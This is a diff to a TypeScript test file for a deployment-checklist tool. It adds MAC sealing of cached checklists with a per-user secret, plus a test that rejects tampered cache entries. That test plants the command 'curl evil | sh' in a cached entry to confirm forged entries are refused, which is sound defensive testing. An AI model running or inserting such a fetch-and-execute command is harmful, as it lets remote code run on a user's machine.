@@ -1,11 +1,12 @@
 // The checklist cache: a valid checklist loaded once is answered from the cache (same result, no
 // re-validation), an edited file is validated afresh, and a broken or unwritable cache only costs time.
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { loadChecklist } from "../../../src/checklist/load.js";
+import { displayPath, loadChecklist } from "../../../src/checklist/load.js";
 import { ChecklistError } from "../../../src/errors.js";
+import { CACHE_KEY_FILE, sealCacheEntryForTest } from "../../../src/store/checklist-cache.js";
 
 const checklist = (title: string, extra = "") => `apiVersion: deploycheck/v1
 kind: Checklist
@@ -22,18 +23,27 @@ sections:
 
 let dir: string;
 let cacheHome: string;
-const saved = { xdg: process.env["XDG_CACHE_HOME"], off: process.env["DEPLOYCHECK_NO_CACHE"] };
+let configHome: string;
+const saved = {
+  xdg: process.env["XDG_CACHE_HOME"],
+  config: process.env["XDG_CONFIG_HOME"],
+  off: process.env["DEPLOYCHECK_NO_CACHE"],
+};
 
 beforeEach(() => {
   dir = mkdtempSync(path.join(tmpdir(), "dc-cache-"));
   cacheHome = path.join(dir, "cache");
   process.env["XDG_CACHE_HOME"] = cacheHome;
+  configHome = path.join(dir, "config");
+  process.env["XDG_CONFIG_HOME"] = configHome;
   delete process.env["DEPLOYCHECK_NO_CACHE"];
 });
 afterEach(() => {
   rmSync(dir, { recursive: true, force: true });
   if (saved.xdg === undefined) delete process.env["XDG_CACHE_HOME"];
   else process.env["XDG_CACHE_HOME"] = saved.xdg;
+  if (saved.config === undefined) delete process.env["XDG_CONFIG_HOME"];
+  else process.env["XDG_CONFIG_HOME"] = saved.config;
   if (saved.off === undefined) delete process.env["DEPLOYCHECK_NO_CACHE"];
   else process.env["DEPLOYCHECK_NO_CACHE"] = saved.off;
 });
@@ -57,12 +67,37 @@ describe("checklist cache", () => {
     const second = await loadChecklist(file);
     expect(second).toEqual(first);
 
-    // Proof that the second answer came from the cache: an entry edited by hand is what comes back.
+    // Proof that the second answer came from the cache: an entry edited and sealed with this user's
+    // secret is what comes back.
     const [entry] = entries();
-    const data = JSON.parse(readFileSync(entry!, "utf8"));
+    const text = readFileSync(entry!, "utf8");
+    const data = JSON.parse(text.slice(text.indexOf("\n") + 1));
     data.checklist.metadata.title = "From the cache";
-    writeFileSync(entry!, JSON.stringify(data));
+    writeFileSync(entry!, sealCacheEntryForTest(first.sha256, displayPath(file), JSON.stringify(data)) ?? "");
     expect((await loadChecklist(file)).checklist.metadata.title).toBe("From the cache");
+  });
+
+  it("refuses an entry edited without the per-user secret: what runs is what the YAML says", async () => {
+    const file = path.join(dir, "t.yaml");
+    writeFileSync(file, checklist("First"));
+    const first = await loadChecklist(file);
+    expect(statSync(path.join(configHome, "deploycheck", CACHE_KEY_FILE)).mode & 0o777).toBe(0o600);
+    const [entry] = entries();
+    const text = readFileSync(entry!, "utf8");
+    const [macLine, body] = [text.slice(0, text.indexOf("\n")), text.slice(text.indexOf("\n") + 1)];
+    // The attack: the cached command replaced, the MAC kept (or dropped, or recomputed without the key).
+    const evil = body.replace('"run":"true"', '"run":"curl evil | sh"');
+    expect(evil).not.toBe(body);
+    for (const forged of [`${macLine}\n${evil}`, evil, `${"0".repeat(64)}\n${evil}`]) {
+      writeFileSync(entry!, forged);
+      const loaded = await loadChecklist(file);
+      expect(JSON.stringify(loaded.checklist)).not.toContain("curl evil");
+      expect(loaded).toEqual(first);
+    }
+    // Without the secret (another user's cache, a deleted key) nothing is read from the cache.
+    writeFileSync(entry!, `${macLine}\n${evil}`);
+    rmSync(path.join(configHome, "deploycheck", CACHE_KEY_FILE));
+    expect(JSON.stringify((await loadChecklist(file)).checklist)).not.toContain("curl evil");
   });
 
   it("validates an edited file afresh: an edit that breaks it is reported with its position", async () => {
@@ -83,7 +118,8 @@ describe("checklist cache", () => {
     const [entry] = entries();
     writeFileSync(entry!, "{ torn");
     expect(await loadChecklist(file)).toEqual(first);
-    expect(JSON.parse(readFileSync(entry!, "utf8")).sha256).toBe(first.sha256);
+    const text = readFileSync(entry!, "utf8");
+    expect(JSON.parse(text.slice(text.indexOf("\n") + 1)).sha256).toBe(first.sha256);
   });
 
   it("still loads when the cache cannot be written, and DEPLOYCHECK_NO_CACHE=1 writes nothing", async () => {
